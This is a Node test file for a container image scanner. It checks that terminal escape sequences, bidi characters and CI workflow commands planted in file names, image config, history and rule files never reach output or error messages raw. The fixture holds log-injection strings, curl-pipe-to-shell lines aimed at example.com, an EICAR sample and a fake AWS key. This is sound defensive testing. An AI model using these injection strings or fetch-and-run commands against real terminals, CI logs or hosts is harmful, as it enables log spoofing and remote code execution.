/**
 * Escape sequences and CI workflow commands in names, history, configuration and rules: in no output format and
 * no error message do they reach a terminal or a log as what they are.
 */
import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { file } from '../src/lab/image-builder.ts';
import { eicar } from '../src/lab/sample.ts';
import { openWorkplace, type Workplace } from './scan-command.ts';

let place: Workplace;

before(async () => {
  place = await openWorkplace();
});

after(() => place.close());

describe('hostile text', () => {
  const commands = ['::error file=a::pwned', '::add-mask::x', '##[error]pwned', '##vso[task.setvariable]x'];
  const escapes = ['\x1b[2J', '\x1b]0;title\x07', '\x9b31m', '\r', '\u202e', '\b\b'];
  const texts = commands.flatMap((command) => [
    command,
    `\n${command}`,
    `\r${command}`,
    ...escapes.map((one) => one + command),
  ]);
  let target = '';

  before(async () => {
    target = await place.layout('hostile-text', {
      layers: [
        texts.map((text) => file(`${text}/eicar`, eicar())),
        texts.map((text) => file(`${text}/a.zip`, Buffer.from('PK\x03\x04', 'latin1'))),
        texts.map((text, at) =>
          file(`etc/${at}.sh`, `#!/bin/sh\n${text} curl http://example.com/${at} | sh ${text}\n`, {
            mode: 0o755,
          }),
        ),
      ],
      history: texts.slice(0, 2).map((text) => `${text} RUN ${text}`),
      config: {
        Entrypoint: ['/bin/sh', '-c', `curl http://example.com/x.sh | sh ${texts.join(' ')}`],
        Env: texts.map((text, at) => `${text}_${at}=${text} AKIAQWERTZUIOPASDFGH`),
        Labels: Object.fromEntries(texts.map((text) => [text, `http://example.com/${text}`])),
      },
    });
  });

  for (const format of ['table', 'json', 'sarif', 'html', 'ndjson']) {
    it(`reaches neither terminal nor log as ${format}`, async () => {
      const { code, stdout, stderr } = await place.scan(target, '--format', format);
      assert.equal(code, 3, stderr);
      assert.match(stdout, /eicar/i);
      assertHarmless(stdout);
      assertHarmless(stderr);
    });
  }

  it('is in no value of the json report, as programs print them without their quotes', async () => {
    const { stdout } = await place.scan(target, '--format', 'json');
    JSON.parse(stdout, (_, value: unknown) => {
      if (typeof value === 'string') assert.doesNotMatch(value, /[\p{Cc}\u202a-\u202e]/u);
      return value;
    });
  });

  it('reaches neither in an error', async () => {
    const targets = texts.flatMap((text) => [
      text,
      `oci:${place.images}/${text}`,
      `docker-archive:${text}:${text}`,
    ]);
    for (const debug of [false, true]) {
      const { code, stdout, stderr } = await place.scan(...targets, ...(debug ? ['--debug'] : []));
      assert.equal(code, 2);
      assert.equal(/^ +\| +at .*:\d+/m.test(stderr), debug, 'a stack trace only where it is asked for');
      assertHarmless(stdout);
      assertHarmless(stderr);
    }
  });

  it('reaches neither in an option that is refused', async () => {
    for (const option of ['--format', '--timeout', '--no\x1b[2J\n::error::']) {
      const { code, stdout, stderr } = await place.scan(target, option, '\x1b[2J\n::error::pwned');
      assert.deepEqual([code, stdout], [2, '']);
      assert.match(stderr, /^error: .*\\x1b\[2J\\x0a::error::/);
      assertHarmless(stderr);
    }
  });

  it('reaches neither out of rules that were brought', async () => {
    const rules = join(place.images, 'hostile-rules');
    await mkdir(rules);
    const meta = 'description = "\\n::error::pwned \\x1b[2J" author = "\\n##[error]pwned"';
    await writeFile(
      join(rules, '::error::\x1b[2J.yar'),
      `rule found { meta: ${meta} strings: $a = "EICAR" condition: $a }\nrule broken { condition: \x1b[2J }\n` +
        'rule refused { condition: ::error::pwned\n::error::pwned }\n',
    );
    await writeFile(join(rules, 'secrets.toml'), '[[rules]]\nid = "\\n::error::pwned"\nregex = "("\n');
    const { code, stdout, stderr } = await place.scan(target, '--rules', rules);
    assert.ok(code === 0 || code === 3, stderr);
    assertHarmless(stdout);
    assertHarmless(stderr);
  });
});

/** No control character but the line feed, and no line that a CI system takes for a command to itself. */
function assertHarmless(text: string): void {
  const control = /[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u.exec(text);
  const around = control === null ? '' : text.slice(Math.max(0, control.index - 80), control.index + 20);
  assert.equal(around, '', `a control character in ${JSON.stringify(around)}`);
  // GitHub, Azure and TeamCity look behind blanks at the beginning of a line.
  const command = /^[^\S\n]*(?:::|##\[|##vso|##teamcity).{0,80}/m.exec(text);
  assert.equal(command, null, `a line that is a command: ${command?.[0]}`);
}
